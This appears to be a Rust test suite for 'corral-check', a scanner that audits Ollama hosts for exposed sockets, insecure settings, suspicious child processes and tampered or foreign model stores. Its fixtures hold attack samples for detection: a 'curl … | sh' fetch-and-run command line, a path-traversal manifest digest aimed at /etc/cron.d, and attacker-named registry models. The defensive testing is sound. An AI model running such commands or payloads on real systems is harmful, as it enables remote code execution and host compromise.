#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::*;
use corral_check::{run, CheckError, Format, Severity};

#[test]
fn wildcard_binds_v4_and_v6_are_findings_loopback_is_not() {
    let fx = Fx::new();
    fx.ollama(&[("OLLAMA_HOST", "0.0.0.0")]);
    fx.process(
        101,
        OLLAMA,
        "ollama",
        &["/usr/local/bin/ollama", "runner", "--port", "40001"],
        &[],
    );
    fx.process(50, 1, "sshd", &["/usr/sbin/sshd", "-D"], &[]);
    fx.fd_socket(OLLAMA, 3, 1001);
    fx.fd_socket(OLLAMA, 4, 1002);
    fx.fd_socket(101, 5, 1003);
    fx.fd_socket(50, 3, 1004);
    fx.sockets(&[
        ("0.0.0.0:22", 0x0A, 1004),
        ("0.0.0.0:11434", 0x0A, 1001),
        ("127.0.0.1:40001", 0x0A, 1003),
        ("127.0.0.1:11434", 0x01, 0),
        ("[::]:11434", 0x0A, 1002),
    ]);
    fx.interfaces();
    let r = run(&fx.opts()).unwrap();

    let exposed = with_id(&r, "socket.exposed");
    assert_eq!(exposed.len(), 2, "{:#?}", r.findings);
    let v4 = exposed
        .iter()
        .find(|f| f.title.contains("0.0.0.0:11434"))
        .unwrap();
    assert_eq!(
        v4.severity,
        Severity::Critical,
        "no firewall dump: not known to be dropped"
    );
    assert!(v4.title.contains("ollama(100)"), "{}", v4.title);
    assert!(
        v4.title.contains("reachable on 192.0.2.2 (eth0)"),
        "{}",
        v4.title
    );
    assert!(
        !v4.title.contains("fd00::2"),
        "an IPv4 socket is not reachable over IPv6"
    );
    assert_eq!(v4.evidence[0].path.as_deref(), Some("/proc/net/tcp"));
    assert_eq!(v4.evidence[0].line, Some(3));
    assert_eq!(v4.evidence[1].path.as_deref(), Some("/proc/100/fd"));
    let v6 = exposed
        .iter()
        .find(|f| f.title.contains("[::]:11434"))
        .unwrap();
    assert!(
        v6.title.contains("fd00::2 (eth0)") && v6.title.contains("192.0.2.2"),
        "{}",
        v6.title
    );
    assert_eq!(v6.evidence[0].path.as_deref(), Some("/proc/net/tcp6"));
    assert_eq!(v6.evidence[0].line, Some(2));
    // The runner's loopback socket is reported as a fact, not a finding; sshd is ignored.
    let runner = r.sockets.iter().find(|s| s.port == 40001).unwrap();
    assert_eq!(runner.pids, vec![101]);
    assert!(!r.sockets.iter().any(|s| s.port == 22));
    assert_eq!(r.sockets.len(), 3);
    // The remediation points at the setting that caused it.
    assert!(
        v4.remediation.contains("OLLAMA_HOST=127.0.0.1:11434"),
        "{}",
        v4.remediation
    );
    assert_eq!(r.exit_code(Severity::High), 1);
}

#[test]
fn socket_on_the_port_without_a_known_owner_is_still_reported() {
    let fx = Fx::new();
    fx.process(1, 0, "systemd", &["/sbin/init"], &[]);
    fx.process(
        7,
        1,
        "docker-proxy",
        &["/usr/bin/docker-proxy", "-host-port", "11434"],
        &[],
    );
    fx.fd_socket(7, 4, 77);
    fx.sockets(&[("0.0.0.0:11434", 0x0A, 77), ("10.1.2.3:9999", 0x0A, 78)]);
    let r = run(&fx.opts()).unwrap();
    let e = with_id(&r, "socket.exposed");
    assert_eq!(e.len(), 1);
    assert!(
        e[0].remediation.contains("-p 127.0.0.1:11434:11434"),
        "{}",
        e[0].remediation
    );
}

#[test]
fn clean_host_has_no_findings() {
    let fx = Fx::new();
    fx.ollama(&[
        ("OLLAMA_HOST", "127.0.0.1:11434"),
        ("OLLAMA_MODELS", "/srv/models"),
    ]);
    fx.fd_socket(OLLAMA, 3, 5);
    fx.sockets(&[("127.0.0.1:11434", 0x0A, 5)]);
    fx.write("/etc/systemd/system/ollama.service", "[Service]\nExecStart=/usr/local/bin/ollama serve\nUser=ollama\nEnvironment=\"OLLAMA_HOST=127.0.0.1:11434\" \"OLLAMA_MODELS=/srv/models\"\n");
    fx.write("/corral-fixtures/iptables-save.txt", IPT_DROP);
    fx.write("/corral-fixtures/ip6tables-save.txt", IPT_DROP);
    fx.write("/corral-fixtures/version.json", r#"{"version":"0.17.1"}"#);
    fx.model(
        "/srv/models",
        "registry.ollama.ai",
        "library",
        "llama3",
        "8b",
        &[b"{\"cfg\":1}", b"GGUF weights"],
    );
    let mut o = fx.opts();
    o.verify = true;
    let r = run(&o).unwrap();
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert_eq!(r.exit_code(Severity::Info), 0);
    assert_eq!(r.stores.len(), 1);
    assert_eq!(r.stores[0].dir, "/srv/models");
    assert_eq!(r.stores[0].models[0].name, "llama3:8b");
    assert_eq!(r.verified_blobs, Some(2));
    assert_eq!(r.version.as_ref().unwrap().version, "0.17.1");
    assert!(r.render(Format::Table).contains("No findings."));
}

#[test]
fn dropin_overrides_unit_and_names_the_line() {
    let fx = Fx::new();
    fx.ollama(&[("OLLAMA_HOST", "0.0.0.0")]);
    fx.write("/usr/lib/systemd/system/ollama.service", "[Unit]\nDescription=Ollama\n[Service]\nExecStart=/usr/bin/ollama serve\nEnvironment=OLLAMA_HOST=127.0.0.1\n");
    fx.write(
        "/etc/systemd/system/ollama.service.d/10-net.conf",
        "# exposed for the LAN\n[Service]\nEnvironment=\"OLLAMA_HOST=0.0.0.0\"\n",
    );
    let r = run(&fx.opts()).unwrap();
    let f = with_id(&r, "config.host");
    assert_eq!(f.len(), 1, "{:#?}", r.findings);
    assert_eq!(f[0].severity, Severity::High);
    assert_eq!(
        f[0].evidence[0].path.as_deref(),
        Some("/etc/systemd/system/ollama.service.d/10-net.conf")
    );
    assert_eq!(f[0].evidence[0].line, Some(3));
    assert_eq!(f[0].evidence[1].path.as_deref(), Some("/proc/100/environ"));
    assert_eq!(
        f[0].remediation,
        "Change line 3 of /etc/systemd/system/ollama.service.d/10-net.conf to `Environment=\"OLLAMA_HOST=127.0.0.1:11434\"`, then `systemctl daemon-reload && systemctl restart ollama`"
    );
    assert_eq!(r.unit_files.len(), 2);

    // The other way round: a drop-in that fixes an exposed unit leaves nothing to report.
    let fx = Fx::new();
    fx.write(
        "/etc/systemd/system/ollama.service",
        "[Service]\nEnvironment=OLLAMA_HOST=0.0.0.0\n",
    );
    fx.write(
        "/etc/systemd/system/ollama.service.d/override.conf",
        "[Service]\nEnvironment=OLLAMA_HOST=127.0.0.1:11434\n",
    );
    let r = run(&fx.opts()).unwrap();
    assert!(with_id(&r, "config.host").is_empty(), "{:#?}", r.findings);
}

#[test]
fn origins_wildcard_from_environment_file_and_etc_environment() {
    let fx = Fx::new();
    fx.write("/etc/systemd/system/ollama.service", "[Service]\nEnvironmentFile=-/etc/default/ollama\nEnvironmentFile=/etc/ollama/missing.env\n");
    fx.write(
        "/etc/default/ollama",
        "# settings\nOLLAMA_ORIGINS=\"*\"\nOLLAMA_DEBUG=1\n",
    );
    fx.write(
        "/etc/environment",
        "PATH=\"/usr/bin\"\nOLLAMA_HOST=0.0.0.0:8080\n",
    );
    let r = run(&fx.opts()).unwrap();
    let o = with_id(&r, "config.origins");
    assert_eq!(o.len(), 1);
    assert_eq!(o[0].severity, Severity::High);
    assert_eq!(
        (o[0].evidence[0].path.as_deref(), o[0].evidence[0].line),
        (Some("/etc/default/ollama"), Some(2))
    );
    assert!(
        o[0].remediation
            .starts_with("Change line 2 of /etc/default/ollama to `OLLAMA_ORIGINS="),
        "{}",
        o[0].remediation
    );
    let h = with_id(&r, "config.host");
    assert_eq!(
        (h[0].evidence[0].path.as_deref(), h[0].evidence[0].line),
        (Some("/etc/environment"), Some(2))
    );
    assert!(
        h[0].remediation.contains("`OLLAMA_HOST=127.0.0.1:8080`"),
        "{}",
        h[0].remediation
    );
    assert_eq!(with_id(&r, "config.debug").len(), 1);
    assert!(
        r.notes
            .iter()
            .any(|n| n.contains("/etc/ollama/missing.env")),
        "{:?}",
        r.notes
    );
}

#[test]
fn container_hints_change_the_remediation() {
    let fx = Fx::new();
    fx.write("/.dockerenv", "");
    fx.process(
        1,
        0,
        "ollama",
        &["/bin/ollama", "serve"],
        &[("OLLAMA_HOST", "0.0.0.0:11434")],
    );
    let r = run(&fx.opts()).unwrap();
    assert_eq!(with_id(&r, "container").len(), 1);
    let h = with_id(&r, "config.host");
    assert!(
        h[0].remediation
            .contains("docker run -p 127.0.0.1:11434:11434"),
        "{}",
        h[0].remediation
    );
}

#[test]
fn shell_children_of_ollama_are_critical_runners_are_not() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.process(
        101,
        OLLAMA,
        "ollama",
        &["/usr/local/bin/ollama", "runner", "--model", "/m"],
        &[],
    );
    fx.process(
        102,
        OLLAMA,
        "sh",
        &["/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh"],
        &[],
    );
    fx.process(
        103,
        102,
        "curl",
        &["curl", "-s", "http://203.0.113.9/x"],
        &[],
    );
    fx.process(104, OLLAMA, "nvidia-smi", &["nvidia-smi"], &[]);
    fx.process(200, 1, "bash", &["-bash"], &[]);
    let r = run(&fx.opts()).unwrap();
    let c = with_id(&r, "process.child");
    assert_eq!(c.len(), 3, "{:#?}", c);
    let crit: Vec<_> = c
        .iter()
        .filter(|f| f.severity == Severity::Critical)
        .collect();
    assert_eq!(crit.len(), 2);
    assert!(c
        .iter()
        .any(|f| f.title.contains("ollama(100) → sh(102) → curl(103)")));
    assert!(c
        .iter()
        .any(|f| f.severity == Severity::Medium && f.title.contains("nvidia-smi(104)")));
    assert_eq!(
        c[0].evidence[0]
            .path
            .as_deref()
            .map(|p| p.ends_with("/cmdline")),
        Some(true)
    );
    let roles: Vec<(u32, &str)> = r.processes.iter().map(|p| (p.pid, p.role)).collect();
    assert_eq!(
        roles,
        vec![
            (100, "server"),
            (101, "runner"),
            (102, "child"),
            (103, "child"),
            (104, "child")
        ]
    );
}

#[test]
fn model_store_integrity() {
    let fx = Fx::new();
    fx.write(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nollama:x:998:998::/usr/share/ollama:/bin/false\n",
    );
    let a = fx.model(
        STORE,
        "registry.ollama.ai",
        "library",
        "llama3",
        "8b",
        &[b"cfg-a", b"weights-a"],
    );
    let b = fx.model(
        STORE,
        "registry.ollama.ai",
        "library",
        "qwen",
        "latest",
        &[b"cfg-b", b"weights-b"],
    );
    fx.model(
        STORE,
        "203.0.113.7:8443",
        "attacker",
        "leak_model_0",
        "latest",
        &[b"cfg-c", b"weights-c"],
    );
    // Tampered: same size, different content.
    fx.write(&format!("{STORE}/blobs/sha256-{}", a[1]), b"WEIGHTS-A");
    // Missing blob.
    std::fs::remove_file(fx.path(&format!("{STORE}/blobs/sha256-{}", b[1]))).unwrap();
    // Orphan, and a partial download that is not a blob.
    let stray = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"stray"));
    fx.write(&format!("{STORE}/blobs/sha256-{stray}"), b"stray");
    fx.write(
        &format!("{STORE}/blobs/sha256-{}-partial", "d".repeat(64)),
        b"half",
    );
    // Traversal digest (CVE-2024-37032 shape) and junk manifest.
    fx.write(
        &format!("{STORE}/manifests/registry.ollama.ai/library/evil/latest"),
        r#"{"schemaVersion":2,"layers":[{"mediaType":"application/vnd.ollama.image.model","digest":"sha256:../../../../etc/cron.d/x","size":1}]}"#,
    );
    fx.write(
        &format!("{STORE}/manifests/registry.ollama.ai/library/junk/latest"),
        "not json",
    );

    let r = run(&fx.opts()).unwrap();
    assert!(
        with_id(&r, "model.tampered-blob").is_empty(),
        "only --verify hashes"
    );
    assert_eq!(
        with_id(&r, "model.missing-blob").len(),
        1,
        "{:#?}",
        with_id(&r, "model.missing-blob")
    );
    assert!(with_id(&r, "model.missing-blob")[0]
        .title
        .contains("qwen:latest"));
    let orphans = with_id(&r, "model.orphan-blob");
    assert_eq!(orphans.len(), 1);
    assert!(orphans[0].evidence[0]
        .path
        .as_deref()
        .unwrap()
        .ends_with(&stray));
    let foreign = with_id(&r, "model.foreign-registry");
    assert_eq!(foreign.len(), 1);
    assert!(foreign[0]
        .title
        .contains("203.0.113.7:8443/attacker/leak_model_0:latest"));
    assert_eq!(
        with_id(&r, "model.bad-digest")[0].severity,
        Severity::Critical
    );
    assert_eq!(with_id(&r, "model.bad-manifest").len(), 1);
    let names: Vec<&str> = r.stores[0].models.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(names.len(), 4, "{names:?}");

    let mut o = fx.opts();
    o.verify = true;
    let r = run(&o).unwrap();
    let t = with_id(&r, "model.tampered-blob");
    assert_eq!(t.len(), 1);
    assert!(t[0].evidence[0].path.as_deref().unwrap().ends_with(&a[1]));
    assert_eq!(t[0].severity, Severity::Critical);
    // Five real blobs plus the orphan; the partial file is not one.
    assert_eq!(r.verified_blobs, Some(6));
}

#[test]
fn size_mismatch_is_found_without_verify() {
    let fx = Fx::new();
    let h = fx.model(
        STORE,
        "registry.ollama.ai",
        "library",
        "m",
        "1",
        &[b"c", b"0123456789"],
    );
    fx.write(&format!("{STORE}/blobs/sha256-{}", h[1]), b"0123");
    let r = run(&fx.opts()).unwrap();
    assert_eq!(with_id(&r, "model.size-mismatch").len(), 1);
}

#[test]
fn since_and_models_flag() {
    let fx = Fx::new();
    fx.model(
        "/data/m",
        "registry.ollama.ai",
        "library",
        "new",
        "1",
        &[b"c", b"w"],
    );
    let mut o = fx.opts();
    o.models_dirs = vec![fx.path("/data/m")];
    o.since = Some(chrono::Utc::now() - chrono::Duration::hours(1));
    let r = run(&o).unwrap();
    let s = with_id(&r, "model.since");
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].severity, Severity::Medium);
    o.since = Some(chrono::Utc::now() + chrono::Duration::hours(1));
    assert!(with_id(&run(&o).unwrap(), "model.since").is_empty());
    o.models_dirs = vec![fx.path("/nope")];
    assert!(matches!(run(&o), Err(CheckError::ModelsDir(_))));
}

#[test]
fn baseline_write_then_diff() {
    let fx = Fx::new();
    fx.write("/root/.keep", "");
    fx.model(
        "/root/.ollama/models",
        "registry.ollama.ai",
        "library",
        "a",
        "1",
        &[b"c1", b"w1"],
    );
    let base = fx.path("/baseline.json");
    let mut o = fx.opts();
    o.write_baseline = Some(base.clone());
    let r = run(&o).unwrap();
    assert_eq!(r.baseline_written.as_deref(), Some(base.to_str().unwrap()));
    let written: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&base).unwrap()).unwrap();
    assert!(written["stores"]["/root/.ollama/models"]["a:1"]
        .as_str()
        .unwrap()
        .starts_with("sha256:"));

    let mut o = fx.opts();
    o.baseline = Some(base.clone());
    let r = run(&o).unwrap();
    assert!(ids(&r).is_empty(), "{:#?}", r.findings);

    fx.model(
        "/root/.ollama/models",
        "registry.ollama.ai",
        "library",
        "b",
        "1",
        &[b"c2", b"w2"],
    );
    fx.model(
        "/root/.ollama/models",
        "registry.ollama.ai",
        "library",
        "a",
        "1",
        &[b"c1", b"w1-changed"],
    );
    let r = run(&o).unwrap();
    assert_eq!(
        ids(&r),
        vec![
            "model.changed",
            "model.not-in-baseline",
            "model.orphan-blob"
        ]
    );
    assert_eq!(r.exit_code(Severity::High), 1);
    assert_eq!(r.exit_code(Severity::Critical), 0);

    std::fs::write(&base, "{oops").unwrap();
    assert!(matches!(run(&o), Err(CheckError::BaselineParse { .. })));
    o.baseline = Some(fx.path("/missing.json"));
    assert!(matches!(run(&o), Err(CheckError::BaselineRead { .. })));
}

#[test]
fn firewall_drop_lowers_socket_severity() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.fd_socket(OLLAMA, 3, 9);
    fx.sockets(&[("0.0.0.0:11434", 0x0A, 9)]);
    fx.write("/corral-fixtures/nft.json", NFT_DROP);
    let r = run(&fx.opts()).unwrap();
    let s = with_id(&r, "socket.exposed");
    assert_eq!(s[0].severity, Severity::High);
    assert!(s[0].title.contains("the firewall drops the port"));
    assert!(with_id(&r, "firewall.open").is_empty());
    assert!(with_id(&r, "firewall.unknown").is_empty());
    assert_eq!(
        r.firewall.ipv4_from.as_deref(),
        Some("/corral-fixtures/nft.json")
    );
}

#[test]
fn firewall_open_names_the_accepting_rule() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.fd_socket(OLLAMA, 3, 9);
    fx.sockets(&[("0.0.0.0:11434", 0x0A, 9)]);
    fx.write("/corral-fixtures/iptables-save.txt", IPT_OPEN);
    let r = run(&fx.opts()).unwrap();
    let open = with_id(&r, "firewall.open");
    assert_eq!(open.len(), 1, "{:#?}", r.findings);
    assert_eq!(open[0].severity, Severity::Medium);
    assert_eq!(
        open[0].evidence[0].path.as_deref(),
        Some("/corral-fixtures/iptables-save.txt")
    );
    assert_eq!(open[0].evidence[0].line, Some(5));
    assert_eq!(
        with_id(&r, "socket.exposed")[0].severity,
        Severity::Critical
    );
    // No ip6tables dump and no nft: IPv6 cannot be determined, said plainly.
    let unk = with_id(&r, "firewall.unknown");
    assert_eq!(unk.len(), 1);
    assert!(unk[0].title.starts_with("IPv6"));
    assert!(unk[0].evidence[0].detail.contains("cannot be determined"));
}

#[test]
fn firewall_absent_is_stated_plainly() {
    let fx = Fx::new();
    let r = run(&fx.opts()).unwrap();
    assert_eq!(with_id(&r, "firewall.unknown").len(), 2);
    assert!(r.render(Format::Table).contains("cannot be determined"));
    assert_eq!(
        r.exit_code(Severity::Low),
        0,
        "unknown firewall alone is info"
    );
}

#[test]
fn version_fixture_checked_against_cves() {
    let fx = Fx::new();
    fx.write("/corral-fixtures/version.json", r#"{"version":"0.3.14"}"#);
    let r = run(&fx.opts()).unwrap();
    let v = with_id(&r, "version.cve");
    assert!(v
        .iter()
        .any(|f| f.title.contains("CVE-2026-7482") && f.severity == Severity::Critical));
    assert!(v.iter().any(|f| f.title.contains("CVE-2024-39719")));
    assert!(!v.iter().any(|f| f.title.contains("CVE-2024-37032")));
    assert_eq!(
        v[0].evidence[0].path.as_deref(),
        Some("/corral-fixtures/version.json")
    );
}

#[test]
fn json_output_shape() {
    let fx = Fx::new();
    fx.ollama(&[("OLLAMA_ORIGINS", "*")]);
    fx.write("/corral-fixtures/version.json", r#"{"version":"0.17.1"}"#);
    fx.write("/corral-fixtures/iptables-save.txt", IPT_DROP);
    fx.write("/corral-fixtures/ip6tables-save.txt", IPT_DROP);
    let r = run(&fx.opts()).unwrap();
    let j: serde_json::Value = serde_json::from_str(&r.render(Format::Json)).unwrap();
    assert_eq!(j["port"], 11434);
    assert_eq!(j["version"]["version"], "0.17.1");
    assert_eq!(j["firewall"]["ipv4"]["verdict"], "dropped");
    assert_eq!(j["processes"][0]["role"], "server");
    assert_eq!(j["settings"][0]["name"], "OLLAMA_ORIGINS");
    assert_eq!(j["settings"][0]["source"], "process");
    let f = &j["findings"];
    assert_eq!(f.as_array().unwrap().len(), 1);
    assert_eq!(f[0]["id"], "config.origins");
    assert_eq!(f[0]["severity"], "high");
    assert_eq!(f[0]["evidence"][0]["path"], "/proc/100/environ");
    assert!(f[0]["remediation"].as_str().unwrap().contains("pid 100"));
}

#[test]
fn sarif_output_structure() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.write(
        "/etc/systemd/system/ollama.service",
        "[Service]\nEnvironment=\"OLLAMA_HOST=0.0.0.0\"\n",
    );
    fx.fd_socket(OLLAMA, 3, 9);
    fx.sockets(&[("0.0.0.0:11434", 0x0A, 9)]);
    let r = run(&fx.opts()).unwrap();
    let s: serde_json::Value = serde_json::from_str(&r.render(Format::Sarif)).unwrap();
    assert_eq!(s["version"], "2.1.0");
    assert!(s["$schema"].as_str().unwrap().contains("sarif-2.1.0"));
    let run0 = &s["runs"][0];
    assert_eq!(run0["tool"]["driver"]["name"], "corral-check");
    let rules = run0["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run0["results"].as_array().unwrap();
    assert_eq!(results.len(), r.findings.len());
    let rule_ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    // GitHub code scanning wants each rule's shortDescription, fullDescription and help.
    for r in rules {
        for k in ["shortDescription", "fullDescription", "help"] {
            assert!(!r[k]["text"].as_str().unwrap_or("").is_empty(), "{k}: {r}");
        }
    }
    for res in results {
        let id = res["ruleId"].as_str().unwrap();
        let idx = res["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rule_ids[idx], id);
        assert!(["error", "warning", "note"].contains(&res["level"].as_str().unwrap()));
        assert!(!res["message"]["text"].as_str().unwrap().is_empty());
    }
    let host = results
        .iter()
        .find(|r| r["ruleId"] == "config.host")
        .unwrap();
    let loc = &host["locations"][0]["physicalLocation"];
    assert_eq!(
        loc["artifactLocation"]["uri"],
        "file:///etc/systemd/system/ollama.service"
    );
    assert_eq!(loc["region"]["startLine"], 2);
    let sock = results
        .iter()
        .find(|r| r["ruleId"] == "socket.exposed")
        .unwrap();
    assert_eq!(sock["level"], "error");
    assert_eq!(
        sock["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "file:///proc/net/tcp"
    );
    assert_eq!(
        sock["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "file:///proc/100/fd"
    );
}

/// GitHub code scanning needs at least one location per result: a finding about the host as a
/// whole (firewall or version unknown) points at the host's root.
#[test]
fn sarif_results_all_have_a_location() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.fd_socket(OLLAMA, 3, 9);
    fx.sockets(&[("127.0.0.1:11434", 0x0A, 9)]);
    let r = run(&fx.opts()).unwrap();
    assert!(r.findings.iter().any(|f| f.id == "firewall.unknown"));
    assert!(r.findings.iter().any(|f| f.id == "version.unknown"));
    let s: serde_json::Value = serde_json::from_str(&r.render(Format::Sarif)).unwrap();
    for res in s["runs"][0]["results"].as_array().unwrap() {
        let locs = res["locations"].as_array();
        assert!(locs.is_some_and(|l| !l.is_empty()), "{res}");
        let uri = &res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"];
        assert!(uri.as_str().unwrap().starts_with("file:///"), "{res}");
    }
}

#[test]
fn missing_root_is_an_error() {
    let mut o = Fx::new().opts();
    o.root = "/definitely/not/here".into();
    assert!(matches!(run(&o), Err(CheckError::Root(_))));
}

#[test]
fn cli_main_exit_codes() {
    use clap::Parser;
    #[derive(Parser)]
    struct Top {
        #[command(flatten)]
        a: corral_check::CheckArgs,
    }
    let fx = Fx::new();
    fx.write("/etc/environment", "OLLAMA_ORIGINS=*\n");
    let root = fx.root().to_str().unwrap().to_string();
    let args = |extra: &[&str]| {
        let mut v = vec!["corral", "--root", root.as_str(), "--format", "json"];
        v.extend_from_slice(extra);
        Top::try_parse_from(v).unwrap().a
    };
    let mut out = Vec::new();
    assert_eq!(corral_check::cli::main_to(args(&[]), &mut out), 1);
    let j: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(j["findings"][0]["id"], "config.origins");
    let mut out = Vec::new();
    assert_eq!(
        corral_check::cli::main_to(args(&["--fail-on", "critical"]), &mut out),
        0
    );
    assert!(!out.is_empty());
    let mut out = Vec::new();
    assert_eq!(
        corral_check::cli::main_to(args(&["--baseline", "/nonexistent/b.json"]), &mut out),
        2
    );
    assert!(out.is_empty(), "errors go to stderr only");
}

#[test]
fn a_shell_that_calls_itself_a_runner_is_still_a_shell() {
    // `exec -a "ollama runner" bash`: argv[0] is the parent's choice, comm is the file run.
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.process(
        101,
        OLLAMA,
        "bash",
        &["ollama", "runner", "--model", "/m"],
        &[],
    );
    fx.process(102, OLLAMA, "python3", &["llama-server", "-c", "x"], &[]);
    fx.process(
        103,
        OLLAMA,
        "ollama",
        &["/usr/local/bin/ollama", "runner", "--model", "/m"],
        &[],
    );
    let r = run(&fx.opts()).unwrap();
    let c = with_id(&r, "process.child");
    assert_eq!(c.len(), 2, "{c:#?}");
    assert!(c.iter().all(|f| f.severity == Severity::Critical));
    assert!(c[0].title.contains("a shell") && c[0].title.contains("bash(101)"));
    assert!(c[1].title.contains("an interpreter") && c[1].title.contains("python3(102)"));
}

/// Ollama starts its runners from its own executable: a child that calls itself `ollama`
/// (comm and argv) but runs another file is a renamed program, whatever it claims.
#[test]
fn a_runner_that_is_not_ollamas_executable_is_reported() {
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.exe(OLLAMA, "/usr/local/bin/ollama");
    let runner = ["/usr/local/bin/ollama", "runner", "--model", "/m"];
    fx.process(101, OLLAMA, "ollama", &runner, &[]);
    fx.exe(101, "/usr/local/bin/ollama");
    fx.process(102, OLLAMA, "ollama", &runner, &[]);
    fx.exe(102, "/tmp/.x/ollama");
    // Unknown (unreadable, or replaced by an upgrade since it started): not judged.
    fx.process(103, OLLAMA, "ollama", &runner, &[]);
    fx.process(104, OLLAMA, "ollama", &runner, &[]);
    fx.exe(104, "/usr/local/bin/ollama (deleted)");
    let r = run(&fx.opts()).unwrap();
    let c = with_id(&r, "process.child");
    assert_eq!(c.len(), 1, "{c:#?}");
    assert_eq!(c[0].severity, Severity::High);
    assert!(c[0].title.contains("ollama(102)"), "{}", c[0].title);
    assert!(c[0].title.contains("not its executable"), "{}", c[0].title);
    assert!(
        c[0].evidence
            .iter()
            .any(|e| e.detail.contains("/tmp/.x/ollama")
                && e.detail.contains("/usr/local/bin/ollama")),
        "{:#?}",
        c[0].evidence
    );
}

#[test]
fn a_fifo_where_a_blob_or_environment_file_should_be_does_not_hang_the_check() {
    // Whoever can write to the models directory could plant a FIFO named like a blob; opening
    // it for reading blocks until a writer comes, so `--verify` would never finish.
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.model(
        STORE,
        "registry.ollama.ai",
        "library",
        "llama3",
        "latest",
        &[b"cfg", b"weights"],
    );
    let fifo_blob = fx.path(&format!("{STORE}/blobs/sha256-{}", "ab".repeat(32)));
    let fifo_env = fx.path("/etc/environment");
    std::fs::create_dir_all(fifo_env.parent().unwrap()).unwrap();
    for p in [&fifo_blob, &fifo_env] {
        assert!(std::process::Command::new("mkfifo")
            .arg(p)
            .status()
            .unwrap()
            .success());
    }
    let mut o = fx.opts();
    o.verify = true;
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(run(&o).map(|r| (r.verified_blobs, r.notes.clone())));
    });
    let (verified, notes) = rx
        .recv_timeout(std::time::Duration::from_secs(20))
        .expect("corral check hung on a FIFO")
        .unwrap();
    assert_eq!(verified, Some(3));
    assert!(
        notes.iter().any(|n| n.contains("not a regular file")),
        "{notes:?}"
    );
}

#[test]
fn a_manifest_planted_as_a_symlink_is_still_a_model() {
    // Ollama lists manifests through symlinks (os.Stat), so a linked manifest is served as a
    // model: it must not be invisible to the registry and baseline checks.
    let fx = Fx::new();
    fx.ollama(&[]);
    fx.model(
        STORE,
        "registry.ollama.ai",
        "library",
        "llama3",
        "latest",
        &[b"cfg", b"weights"],
    );
    let real = fx.path(&format!(
        "{STORE}/manifests/registry.ollama.ai/library/llama3/latest"
    ));
    let stash = fx.write("/var/tmp/m/latest", std::fs::read(&real).unwrap());
    let link = fx.path(&format!(
        "{STORE}/manifests/203.0.113.9:8443/attacker/leak/latest"
    ));
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(&stash, &link).unwrap();
    // A directory link too, and a loop that must not hang the walk.
    let dir_link = fx.path(&format!("{STORE}/manifests/198.51.100.4:443/ns/x"));
    std::fs::create_dir_all(dir_link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(real.parent().unwrap(), &dir_link).unwrap();
    let lp = fx.path(&format!("{STORE}/manifests/registry.ollama.ai/loop"));
    std::os::unix::fs::symlink(fx.path(&format!("{STORE}/manifests")), &lp).unwrap();
    // Under --root a link out of the tree is not followed into this machine's files.
    let outside = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(outside.path(), std::fs::read(&real).unwrap()).unwrap();
    let out_link = fx.path(&format!(
        "{STORE}/manifests/registry.ollama.ai/library/llama3/out"
    ));
    std::os::unix::fs::symlink(outside.path(), &out_link).unwrap();
    // A link to nothing is not followed either; both are reported as unchecked.
    let dangling = fx.path(&format!(
        "{STORE}/manifests/registry.ollama.ai/library/llama3/gone"
    ));
    std::os::unix::fs::symlink(fx.path("/var/tmp/nowhere"), &dangling).unwrap();
    // A FIFO where a manifest belongs is not opened (it would block), but reported.
    let fifo = fx.path(&format!(
        "{STORE}/manifests/registry.ollama.ai/library/llama3/pipe"
    ));
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let r = run(&fx.opts()).unwrap();
    let mut names: Vec<&str> = r.stores[0].models.iter().map(|m| m.name.as_str()).collect();
    names.sort();
    assert!(!names.contains(&"llama3:out"), "{names:?}");
    assert!(!names.contains(&"llama3:gone"), "{names:?}");
    // Each seen twice: in its own directory and through the directory link to it.
    let unchecked = with_id(&r, "model.unchecked-manifest");
    assert_eq!(unchecked.len(), 6, "{unchecked:#?}");
    let kind = |end: &str, why: &str| {
        unchecked
            .iter()
            .filter(|f| {
                f.title.contains(why)
                    && f.evidence[0]
                        .path
                        .as_deref()
                        .is_some_and(|p| p.ends_with(end))
            })
            .count()
    };
    assert_eq!(kind("/gone", "dangling"), 2, "{unchecked:#?}");
    assert_eq!(kind("/out", "--root"), 2, "{unchecked:#?}");
    assert_eq!(kind("/pipe", "not a regular file"), 2, "{unchecked:#?}");
    assert!(
        names.contains(&"203.0.113.9:8443/attacker/leak:latest"),
        "{names:?}"
    );
    assert!(names.contains(&"198.51.100.4:443/ns/x:latest"), "{names:?}");
    let foreign = with_id(&r, "model.foreign-registry");
    assert_eq!(foreign.len(), 2, "{foreign:#?}");
}

#[test]
fn the_firewall_is_judged_for_the_port_ollama_actually_listens_on() {
    // OLLAMA_HOST moved Ollama to 8080; the firewall drops only 11434. The socket on 8080 is
    // not protected by that rule.
    let fx = Fx::new();
    fx.ollama(&[("OLLAMA_HOST", "0.0.0.0:8080")]);
    fx.fd_socket(OLLAMA, 3, 4001);
    fx.fd_socket(OLLAMA, 4, 4002);
